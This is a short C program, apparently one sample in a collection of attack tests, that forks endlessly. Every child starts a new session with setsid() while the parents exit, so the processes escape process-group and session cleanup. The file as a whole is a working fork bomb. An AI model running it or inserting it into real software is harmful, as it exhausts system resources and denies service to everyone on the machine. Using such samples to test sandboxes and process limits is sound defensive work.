/*
 * Forks for ever, each in a session of its own, with parents that leave.
 */
#include "../attack.h"

int main(void) {
  pid_t first = getpid();
  for (;;) {
    if (fork() > 0 && getpid() != first) _exit(0);
    setsid();
  }
  return 0;
}
